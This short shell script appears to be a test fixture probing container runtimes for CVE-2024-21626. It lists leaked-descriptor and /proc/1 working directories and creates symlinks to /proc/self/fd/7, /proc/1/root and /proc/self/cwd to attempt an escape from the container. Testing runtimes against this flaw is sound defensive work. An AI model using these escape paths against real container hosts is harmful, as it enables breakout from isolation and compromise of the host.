#!/bin/sh
# does: asks for a working directory that is a descriptor of the runtime's (CVE-2024-21626)
# then: workdir /proc/self/fd/3
# then: workdir /proc/self/fd/4
# then: workdir /proc/self/fd/5
# then: workdir /proc/self/fd/6
# then: workdir /proc/self/fd/7
# then: workdir /proc/self/fd/8
# then: workdir /proc/self/fd/9
# then: workdir /proc/self/fd/10
# then: workdir /proc/thread-self/fd/7
# then: workdir /proc/1/cwd
# then: workdir /proc/1/root
# then: workdir /proc/1/fd/3
# then: workdir /w
# then: workdir /x
# then: workdir /y/../../../..
ln -s /proc/self/fd/7 /w
ln -s /proc/1/root /x
ln -s /proc/self/cwd /y
